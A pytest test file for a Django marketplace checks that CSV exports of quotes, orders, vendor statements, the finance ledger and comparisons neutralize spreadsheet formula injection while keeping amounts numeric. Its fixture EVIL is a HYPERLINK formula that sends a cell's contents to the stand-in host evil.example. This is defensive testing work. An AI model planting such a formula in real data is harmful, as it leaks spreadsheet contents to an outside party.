"""Every CSV export writes a cell that a spreadsheet would run as a formula (a
vendor's listing title, a buyer's organization name, a person's name) as text,
and keeps amounts, negative ones too, as numbers."""

import csv
import io

import pytest

from accounts.roles import OrganizationKind, Role
from marketplace.money import Money
from marketplace.selectors.comparisons import comparison_csv
from marketplace.services.comparisons import saved_comparison_create
from marketplace.services.orders import order_buy_now, order_cancel
from tests.factories import (
    MembershipFactory,
    OrganizationFactory,
    PlatformMemberFactory,
)
from tests.factories.buying import OrderFactory, PackageFactory, self_approving_buyer
from tests.factories.catalog import (
    PlanFactory,
    VendorFactory,
    published_listing,
    vendor_member,
)

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
NEUTRALIZED = "'" + EVIL


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode())))


def cells_of(content: bytes) -> list[str]:
    return [cell for row in rows_of(content) for cell in row]


def test_the_quote_csv_neutralizes_a_listing_title(client, approved_quote):
    buyer = self_approving_buyer()
    plan = published_listing(title=EVIL).plans.get()
    quote = approved_quote(buyer, plan, 3)
    client.force_login(buyer.user)

    cells = cells_of(client.get(f"/quotes/{quote.pk}.csv").content)

    assert NEUTRALIZED in cells
    assert EVIL not in cells


def test_the_order_history_csv_neutralizes_a_persons_name(client):
    buyer = self_approving_buyer()
    buyer.user.first_name, buyer.user.last_name = EVIL, ""
    buyer.user.save()
    plan = published_listing(title="City Eye").plans.get()
    _quote, order = order_buy_now(
        membership=buyer, plan_id=plan.pk, quantity=1, payment_method="invoice"
    )
    client.force_login(buyer.user)

    cells = cells_of(client.get(f"/orders/{order.pk}/history.csv").content)

    assert NEUTRALIZED in cells
    assert EVIL not in cells


def test_the_vendor_statement_csv_neutralizes_a_buyer_name_and_keeps_amounts(client):
    vendor = VendorFactory()
    plan = PlanFactory(listing=published_listing(vendor=vendor))
    order = OrderFactory(
        organization=OrganizationFactory(kind=OrganizationKind.BUYER, name=EVIL),
        lines=[plan],
    )
    order_cancel(membership=order.placed_by.memberships.get(), order=order)
    entries = order.ledger_entries.order_by("pk")
    client.force_login(vendor_member(vendor, Role.OWNER))

    rows = rows_of(client.get("/vendor/statement.csv").content)[1:]

    assert [row[2] for row in rows] == [NEUTRALIZED, NEUTRALIZED]
    # The cancelled charge books back a negative amount: still a number.
    assert [row[-1] for row in rows] == [
        Money(entry.net, entry.currency).decimal for entry in entries
    ]
    assert rows[1][-1].startswith("-")


def test_the_ledger_csv_neutralizes_a_vendor_name_and_keeps_amounts(client):
    vendor = VendorFactory(organization__name=EVIL)
    plan = PlanFactory(listing=published_listing(vendor=vendor))
    order = OrderFactory(lines=[plan])
    order_cancel(membership=order.placed_by.memberships.get(), order=order)
    client.force_login(PlatformMemberFactory(role=Role.FINANCE))

    response = client.get("/cms/finance/ledger/?export=csv")

    rows = rows_of(b"".join(response.streaming_content))
    header, entries = rows[0], rows[1:]
    vendors = [row[header.index("Vendor")] for row in entries]
    nets = sorted(int(row[header.index("Owed to the vendor")]) for row in entries)
    assert vendors == [NEUTRALIZED, NEUTRALIZED]
    assert nets[0] < 0 < nets[1]


def test_the_comparison_csv_neutralizes_a_listing_title():
    requester = MembershipFactory(role=Role.REQUESTER)
    package = PackageFactory(organization=requester.organization)
    evil = published_listing(title=EVIL, slug="evil")
    plain = published_listing(title="City Eye", slug="eye")
    comparison = saved_comparison_create(
        membership=requester, package=package, slugs=[evil.slug, plain.slug]
    )

    cells = cells_of(
        comparison_csv(comparison, base_url="https://agora.example").encode()
    )

    assert NEUTRALIZED in cells
    assert EVIL not in cells


def test_every_admin_listing_that_exports_neutralizes_its_csv(client):
    from wagtail.admin.viewsets import viewsets
    from wagtail.admin.viewsets.base import ViewSet

    from config.spreadsheets import SpreadsheetSafeExportMixin

    client.get("/cms/")  # the admin's URLs, and so its viewsets, are loaded
    ours = ("accounts", "vendors", "marketplace", "search", "notifications")

    exporting = {
        viewset.name: viewset.index_view_class
        for viewset in viewsets.viewsets
        if getattr(viewset, "list_export", ViewSet.UNDEFINED)
        not in (ViewSet.UNDEFINED, [])
        and type(viewset).__module__.startswith(ours)
    }

    assert set(exporting) == {"finance_ledger", "finance_documents"}
    assert all(
        issubclass(view, SpreadsheetSafeExportMixin) for view in exporting.values()
    )
